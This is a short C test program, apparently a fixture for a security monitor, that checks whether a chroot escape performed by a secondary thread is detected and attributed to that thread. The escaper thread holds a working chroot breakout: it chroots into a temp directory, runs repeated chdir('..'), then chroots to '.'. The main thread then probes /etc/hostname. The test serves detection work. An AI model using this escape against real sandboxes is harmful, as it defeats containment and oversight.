// Tests: the chroot escape done by a second thread, not the leader. Threads share root and cwd
// (CLONE_FS), so the whole process escapes; the finding must name the thread that did it.
#define _GNU_SOURCE
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static void* escaper(void* arg) {
    int* escaped = arg;
    struct stat before, after;
    char dir[] = "/tmp/escape.XXXXXX";
    printf("escape_thread: escaper tid=%ld pid=%d\n", (long)syscall(SYS_gettid), (int)getpid());
    if (stat("/", &before) != 0 || !mkdtemp(dir) || chroot(dir) != 0) return NULL;
    for (int i = 0; i < 64; i++) (void)!chdir("..");
    if (chroot(".") != 0 || chdir("/") != 0 || stat("/", &after) != 0) return NULL;
    *escaped = before.st_dev != after.st_dev || before.st_ino != after.st_ino;
    return NULL;
}

int main(void) {
    int escaped = -1;
    pthread_t t;
    pthread_create(&t, NULL, escaper, &escaped);
    pthread_join(t, NULL);
    printf("escaped: %s\n", escaped == 1 ? "yes" : escaped == 0 ? "no" : "error");
    // The leader now uses the escaped root.
    printf("leader sees /etc/hostname: %s\n", access("/etc/hostname", R_OK) == 0 ? "yes" : "no");
    return escaped >= 0 ? 0 : 1;
}
